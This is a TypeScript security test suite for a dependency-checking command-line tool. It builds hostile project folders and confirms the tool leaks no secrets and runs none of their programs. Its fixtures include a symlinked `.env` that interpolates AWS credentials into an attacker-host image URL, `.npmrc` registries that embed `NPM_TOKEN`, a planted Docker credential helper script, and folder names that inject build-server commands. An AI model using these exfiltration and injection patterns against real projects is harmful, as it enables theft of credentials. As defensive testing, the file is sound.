import { spawn } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readdir, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { type LocalServer, startLocalServer } from '../support/local-server.ts';

/** The command line as a process of its own, in folders that were made to attack who checks them. */
const main = path.resolve(import.meta.dirname, '../../server/src/main.ts');

let place: string;
let attacker: LocalServer;
beforeEach(async () => {
  place = await realpath(await mkdtemp(path.join(tmpdir(), 'hostile-')));
  attacker = await startLocalServer((_, response) => response.writeHead(404).end());
});
afterEach(async () => {
  await attacker.stop();
  await rm(place, { recursive: true });
});

/** Texts by path; `→ target` makes a link, and `#!` a program. */
async function make(entries: Readonly<Record<string, string>>): Promise<void> {
  for (const [name, text] of Object.entries(entries)) {
    const at = path.join(place, name);
    await mkdir(path.dirname(at), { recursive: true });
    if (text.startsWith('→ ')) await symlink(text.slice(2), at);
    else await writeFile(at, text);
    if (text.startsWith('#!')) await chmod(at, 0o755);
  }
}

interface Run {
  /** Below the test's place, as everything here. */
  readonly at: string;
  readonly in?: string;
  readonly path?: readonly string[];
  readonly environment?: Readonly<Record<string, string>>;
  readonly offline?: boolean;
}

async function check(run: Run): Promise<{ status: number | null; out: string; err: string }> {
  const options = ['--fail-on', 'never', ...(run.offline === true ? ['--offline'] : [])];
  const child = spawn(process.execPath, [main, 'check', path.join(place, run.at), ...options], {
    cwd: path.join(place, run.in ?? ''),
    env: {
      PATH: [...(run.path ?? []).map(entry => path.join(place, entry)), '/usr/bin', '/bin'].join(':'),
      HOME: path.join(place, 'home'),
      REGISTRY_LENS_CACHE: path.join(place, 'cache'),
      ...run.environment,
    },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  const texts = Promise.all([child.stdout, child.stderr].map(async stream => (await stream.toArray()).join('')));
  const status = await new Promise<number | null>(resolve => child.on('close', resolve));
  const [out = '', err = ''] = await texts;
  return { status, out, err };
}

const host = () => attacker.base.slice('http://'.length);
const sent = () => JSON.stringify([attacker.requests, attacker.headers]);

describe.skipIf(process.platform === 'win32')('what is the user’s stays with the user', () => {
  test('though `.env` is a link to the user’s credentials', async () => {
    await make({
      'home/.aws/credentials': 'aws_secret_access_key = wJalrXUtnFEMI.K7MDENG\n',
      'home/src/ws/.env': '→ ../../.aws/credentials',
      'home/src/ws/compose.yaml': `services: {a: {image: "${host()}/x/y:\${aws_secret_access_key}"}}\n`,
    });
    await check({ at: 'home/src/ws' });
    expect(sent()).not.toContain('wJalr');
  });

  test.each<[string, Omit<Run, 'at'>]>([
    ['a program on the PATH beside it', { path: ['ws/node_modules/.bin'] }],
    ['a variable that names it', { environment: { npm_config_globalconfig: 'WS/node_modules/etc/npmrc' } }],
  ])('though the folder’s file looks like npm’s own by %s', async (_, run) => {
    await make({
      'home/.npmrc': `registry=${attacker.base}/own\n`,
      'ws/node_modules/.bin/node': '#!/bin/sh\n',
      'ws/node_modules/etc/npmrc': `registry=${attacker.base}/\${NPM_TOKEN}/\n`,
      'ws/package.json': '{"dependencies": {"left-pad": "1.0.0"}}',
    });
    const variables = Object.entries(run.environment ?? {}).map(([name, at]) => [
      name,
      at.replace('WS', path.join(place, 'ws')),
    ]);
    await check({ at: 'ws', ...run, environment: { NPM_TOKEN: 'npm_SECRET', ...Object.fromEntries(variables) } });
    expect(attacker.requests).toContain('GET /own/left-pad/1.0.0');
    expect(sent()).not.toContain('SECRET');
  });

  test.each(['', './', '.'])('though HOME is %j and one stands in the folder', async home => {
    await make({
      'ws/.npmrc': `registry=${attacker.base}/\${NPM_TOKEN}/\n`,
      'ws/package.json': '{"dependencies": {"left-pad": "1.0.0"}}',
    });
    await check({ at: 'ws', in: 'ws', environment: { HOME: home, NPM_TOKEN: 'npm_SECRET' } });
    expect(attacker.requests).toEqual([]);
    expect((await readdir(path.join(place, 'ws'))).sort()).toEqual(['.npmrc', 'package.json']);
  });

  test('though a script’s environment repeats the folder’s file', async () => {
    await make({
      'home/.npmrc': '//public.example/:_authToken=npm_USERTOKEN\n',
      'ws/.npmrc': 'registry=http://public.example/${NPM_TOKEN}\n',
      'ws/package.json': '{"dependencies": {"left-pad": "1.0.0"}}',
    });
    const environment = { NPM_TOKEN: 'SECRET', http_proxy: attacker.base };
    await check({ at: 'ws', environment: { ...environment, npm_config_registry: 'http://public.example/SECRET' } });
    expect(attacker.requests).toEqual([]);
    await make({ 'ws/.npmrc': 'registry=http://public.example\n' });
    await check({ at: 'ws', environment: { ...environment, npm_config_registry: 'http://public.example/' } });
    expect(attacker.requests).toContain('GET http://public.example/left-pad/1.0.0');
    expect(sent()).not.toContain('USERTOKEN');
  });

  test('though a proxy is set: what is asked of this machine goes to no other', async () => {
    await make({
      'home/.docker/config.json': JSON.stringify({ auths: { 'localhost:1': { auth: btoa('user:LOCALSECRET') } } }),
      'ws/Dockerfile': 'FROM localhost:1/team/name:1\n',
    });
    await check({ at: 'ws', environment: { http_proxy: attacker.base } });
    expect(attacker.requests).toEqual([]);
  });
});

describe.skipIf(process.platform === 'win32')('no program of the folder runs', () => {
  test.each<[string, string, string]>([
    ['the whole folder', 'ws/node_modules/.bin', 'ws'],
    ['a folder in it', 'ws/node_modules/.bin', 'ws/sub'],
    ['one file of it', 'ws/node_modules/.bin', 'ws/sub/Dockerfile'],
    ['a PATH that leads there by a link', 'link/node_modules/.bin', 'ws'],
    ['a folder that is named by a link', 'ws/node_modules/.bin', 'link'],
  ])('%s', async (_, bin, at) => {
    await make({
      'home/.docker/config.json': '{"credsStore": "desktop"}',
      'ws/node_modules/.bin/docker-credential-desktop': `#!/bin/sh\necho ran > ${place}/ran\n`,
      'ws/sub/Dockerfile': `FROM ${host()}/x/y:1\n`,
      link: '→ ws',
    });
    const { out } = await check({ at, path: [bin] });
    expect(out).toContain('refused access');
    await expect(readFile(path.join(place, 'ran'))).rejects.toThrow('ENOENT');
  });
});

test('one file that a reader cannot bear silences no other', async () => {
  await make({ 'ws/a/package.json': '{"dependencies": {"\\ud800": "1.0.0"}}', 'ws/z/Dockerfile': 'FROM node\n' });
  const { status, out } = await check({ at: 'ws', offline: true });
  expect(status).toBe(0);
  expect(out).toContain('z/Dockerfile');
});

test.skipIf(process.platform === 'win32')('a folder’s name is no command of a build server', async () => {
  await make({ 'ws/::error::x/Dockerfile': 'FROM node\n', 'ws/##[error]y/Dockerfile': 'FROM node\n' });
  const { out, err } = await check({ at: 'ws', in: 'ws', offline: true });
  expect(out).toContain('error');
  expect(out + err).not.toMatch(/^\s*::|##\[/m);
});

describe.skipIf(process.platform === 'win32')('what is checked is not another’s', () => {
  test('a file that is a link out of its folder is not asked about by the folder’s configuration', async () => {
    await make({
      'private/package.json': '{"dependencies": {"@acme/private-name": "1.0.0"}}',
      'ws/.npmrc': `registry=${attacker.base}\n`,
      'ws/package.json': '→ ../private/package.json',
    });
    const { status, err } = await check({ at: 'ws/package.json' });
    expect({ status, requests: attacker.requests }).toEqual({ status: 3, requests: [] });
    expect(err).toContain('is a link out of its folder');
  });

  test('one repository’s `.env` is not another one’s, though both are opened', async () => {
    await make({
      'src/private/.env': 'PASSWORD=hunter2\n',
      'src/evil/.git/config': '',
      'src/evil/.env': '→ ../private/.env',
      'src/evil/compose.yaml': `services: {a: {image: "${host()}/x/y:\${PASSWORD}"}}\n`,
    });
    await check({ at: 'src' });
    expect(sent()).not.toContain('hunter2');
  });

  test('answers are not kept where what is checked lies', async () => {
    await make({ 'cache/v3/ws/Dockerfile': `FROM ${host()}/x/y:1\n` });
    const { err } = await check({ at: 'cache/v3/ws' });
    expect(err).toContain('Answers are not kept');
    expect(await readdir(path.join(place, 'cache'), { recursive: true })).not.toContainEqual(
      expect.stringContaining('.json'),
    );
  });
});
